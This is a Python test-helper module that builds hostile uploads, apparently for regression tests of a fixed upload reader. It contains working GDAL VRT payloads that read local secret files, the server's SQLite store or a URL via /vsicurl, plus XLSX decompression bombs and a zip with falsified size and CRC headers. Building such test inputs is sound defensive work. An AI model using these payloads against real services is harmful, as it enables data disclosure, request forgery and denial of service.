"""Builders for hostile uploads: disguised OGR VRT documents, XLSX bombs, a loopback
HTTP server that records every request made to it.

The VRTs are the ones that worked against the server before the reader was fixed: each
reads another file (a local secret, the live store) or a URL, and turns its rows into
pins with coordinates so they would be stored.
"""

from __future__ import annotations

import http.server
import io
import struct
import threading
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

#: The suffixes GDAL was handed files by, whatever their content.
SPATIAL_SUFFIXES = (".geojson", ".json", ".gpkg", ".kml")

#: Content types a raw body may declare for each spatial suffix.
RAW_TYPES = {
    ".geojson": "application/geo+json",
    ".json": "application/json",
    ".gpkg": "application/geopackage+sqlite3",
    ".kml": "application/vnd.google-earth.kml+xml",
}

SECRET_CSV = "lat,lon,secret\n16.44,102.83,TOP-SECRET\n"


class Loopback:
    """A loopback HTTP server that serves :data:`SECRET_CSV` and records each request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self, body: bool) -> None:
                outer.requests.append(f"{self.command} {self.path}")
                data = SECRET_CSV.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                if body:
                    self.wfile.write(data)

            def do_GET(self) -> None:
                self._answer(True)

            def do_HEAD(self) -> None:
                self._answer(False)

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Loopback:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def vrt(source: str, *, layer: str | None = None, sql: str | None = None) -> str:
    """An OGR VRT layer over ``source`` whose rows become points (``lat``/``lon`` columns)."""
    pick = f"<SrcLayer>{escape(layer)}</SrcLayer>" if layer else f'<SrcSQL dialect="SQLite">{escape(sql or "")}</SrcSQL>'
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="leak"><SrcDataSource>{escape(source)}</SrcDataSource>{pick}'
        "<GeometryType>wkbPoint</GeometryType><LayerSRS>EPSG:4326</LayerSRS>"
        '<GeometryField encoding="PointFromColumns" x="lon" y="lat"/></OGRVRTLayer></OGRVRTDataSource>'
    )


def hostile_vrts(secret_csv: Path, store: Path, url: str) -> dict[str, str]:
    """The three attacks: a local file, the store's own file, and a loopback URL."""
    return {
        "local_file": vrt(str(secret_csv), layer=secret_csv.stem),
        "store": vrt(str(store), sql="SELECT name, type, 16.44 AS lat, 102.83 AS lon FROM sqlite_master"),
        "url": vrt(f"/vsicurl/{url}/secret.csv", layer="secret"),
    }


# -- XLSX ---------------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row><c t="inlineStr"><is><t>id</t></is></c><c t="inlineStr"><is><t>lat</t></is></c>'
    b'<c t="inlineStr"><is><t>lon</t></is></c></row>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def _workbook_parts(z: zipfile.ZipFile) -> None:
    z.writestr("[Content_Types].xml", _CONTENT_TYPES)
    z.writestr("_rels/.rels", _RELS)
    z.writestr("xl/workbook.xml", _WORKBOOK)
    z.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)


def row_bomb(path: Path, rows: int = 1_000_000) -> Path:
    """An XLSX of ``rows`` identical small rows, the sheet XML written straight into the zip.

    A million rows pack into a couple of hundred KB: under any body limit.
    """
    row = b"<row><c><v>1</v></c><c><v>16.4</v></c><c><v>102.8</v></c></row>"
    block = row * 10_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        _workbook_parts(z)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(SHEET_HEAD)
            for _ in range(rows // 10_000):
                f.write(block)
            f.write(row * (rows % 10_000))
            f.write(SHEET_TAIL)
    return path


def numbered_sheet(path: Path, rows: int, *, tail: bytes = SHEET_TAIL) -> Path:
    """An XLSX with ``rows`` distinct pins (``id``, ``lat``, ``lon``) and then ``tail``.

    A ``tail`` that is not XML makes a file that only a reader that stops early can
    get through without a parse error.
    """
    body = b"".join(
        b'<row><c t="inlineStr"><is><t>R-%d</t></is></c><c><v>16.%d</v></c><c><v>102.%d</v></c></row>'
        % (i, 400000 + i % 1000, 800000 + i % 1000)
        for i in range(rows)
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        _workbook_parts(z)
        z.writestr("xl/worksheets/sheet1.xml", SHEET_HEAD + body + tail)
    return path


def unpacked_bomb(path: Path, unpacked_bytes: int) -> Path:
    """An XLSX whose sheet declares ``unpacked_bytes`` of blanks (a classic ratio bomb)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        _workbook_parts(z)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(SHEET_HEAD)
            chunk = b" " * (1 << 20)
            for _ in range(unpacked_bytes >> 20):
                f.write(chunk)
            f.write(SHEET_TAIL)
    return path


def lying_zip(path: Path, real_bytes: int = 20 << 20, declared: int = 4096) -> Path:
    """An XLSX whose sheet's zip headers declare ``declared`` bytes (with a CRC to match
    them) while its deflate stream unpacks to ``real_bytes``."""
    row = b"<row><c><v>1</v></c><c><v>16.4</v></c><c><v>102.8</v></c></row>"
    data = SHEET_HEAD + row * (real_bytes // len(row)) + SHEET_TAIL
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        _workbook_parts(z)
        z.writestr("xl/worksheets/sheet1.xml", data)
    raw = bytearray(buf.getvalue())
    name = b"xl/worksheets/sheet1.xml"
    crc = zlib.crc32(data[:declared])
    # Patch the local header and the central-directory entry of the sheet.
    for sig, crc_at, size_at in ((b"PK\x03\x04", 14, 22), (b"PK\x01\x02", 16, 24)):
        start = 0
        while True:
            at = raw.index(sig, start)
            name_len = struct.unpack_from("<H", raw, at + (26 if sig == b"PK\x03\x04" else 28))[0]
            head = 30 if sig == b"PK\x03\x04" else 46
            if bytes(raw[at + head : at + head + name_len]) == name:
                struct.pack_into("<I", raw, at + crc_at, crc)
                struct.pack_into("<I", raw, at + size_at, declared)
                break
            start = at + 4
    path.write_bytes(bytes(raw))
    return path
